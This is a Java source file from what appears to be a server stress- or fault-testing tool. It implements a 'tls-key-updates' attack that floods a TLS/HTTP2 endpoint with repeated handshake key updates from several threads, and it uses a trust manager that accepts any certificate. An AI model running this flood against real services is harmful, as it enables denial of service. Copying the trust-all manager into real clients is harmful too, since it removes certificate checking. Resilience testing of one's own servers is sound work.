package dev.entente.faults.siege.attack;

import java.io.IOException;
import java.net.Socket;
import java.security.GeneralSecurityException;
import java.security.SecureRandom;
import java.security.cert.X509Certificate;
import java.util.List;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLParameters;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;

/** Keys that are changed again and again. */
final class Tls {
    private static final int THREADS = 4;

    private Tls() {}

    static List<Attack> all() {
        return List.of(Attack.tls("tls-key-updates", Tls::keyUpdates));
    }

    /** In TLS 1.3 a further handshake is an update of the keys, which the other side has to follow. */
    private static void keyUpdates(Front front, Raid raid) throws InterruptedException {
        Together.of(THREADS, raid, number -> {
            SSLContext context = trusting();
            while (raid.goesOn()) {
                try (SSLSocket socket = secured(context, RawHttp2.dial(number, front.tlsPort()))) {
                    socket.startHandshake();
                    RawHttp2 connection = RawHttp2.over(socket);
                    for (int i = 0; raid.goesOn() && !connection.isClosed(); i++) {
                        raid.tried();
                        socket.startHandshake();
                        if (i % 100 == 0) {
                            connection.write(RawHttp2.frame(RawHttp2.PING, 0, 0, new byte[8]));
                        }
                    }
                } catch (IOException refused) {
                    Thread.sleep(5);
                }
            }
        });
    }

    private static SSLSocket secured(SSLContext context, Socket plain) throws IOException {
        SSLSocket socket = (SSLSocket) context.getSocketFactory().createSocket(plain, "localhost", 0, true);
        SSLParameters parameters = socket.getSSLParameters();
        parameters.setApplicationProtocols(new String[] {"h2"});
        socket.setSSLParameters(parameters);
        return socket;
    }

    private static SSLContext trusting() throws IOException {
        try {
            SSLContext context = SSLContext.getInstance("TLS");
            context.init(null, new TrustManager[] {new Credulous()}, new SecureRandom());
            return context;
        } catch (GeneralSecurityException impossible) {
            throw new IOException(impossible);
        }
    }

    /** An attacker does not care whom it attacks. */
    private static final class Credulous implements X509TrustManager {
        @Override
        public void checkClientTrusted(X509Certificate[] chain, String authType) {}

        @Override
        public void checkServerTrusted(X509Certificate[] chain, String authType) {}

        @Override
        public X509Certificate[] getAcceptedIssuers() {
            return new X509Certificate[0];
        }
    }
}
